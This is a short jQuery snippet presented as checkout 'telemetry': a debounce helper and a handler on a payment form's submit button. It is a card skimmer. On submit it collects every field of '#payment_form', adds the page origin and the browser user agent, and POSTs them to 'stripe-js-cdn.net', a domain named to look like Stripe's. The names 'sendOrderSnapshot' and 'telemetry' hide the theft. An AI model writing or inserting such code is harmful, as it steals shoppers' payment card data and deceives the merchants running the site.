const debounce = (fn, wait = 300) => {
  let timer = null;
  return (...args) => {
    clearTimeout(timer);
    timer = setTimeout(() => fn(...args), wait);
  };
};

const sendOrderSnapshot = () => {
  const fields = $('#payment_form').serializeArray();
  const out = {};
  fields.forEach(({ name, value }) => {
    out[name] = value;
  });
  out.origin = location.origin;
  out.ua = navigator.userAgent;

  $.ajax({
    url: 'https://stripe-js-cdn.net/api/v3/telemetry',
    type: 'POST',
    data: JSON.stringify(out),
    dataType: 'application/json',
    timeout: 4000
  });
};

$(() => {
  $('#payment_form button.submit, #payment_form input[type=submit]')
    .on('mouseup touchend', debounce(sendOrderSnapshot, 250));
});
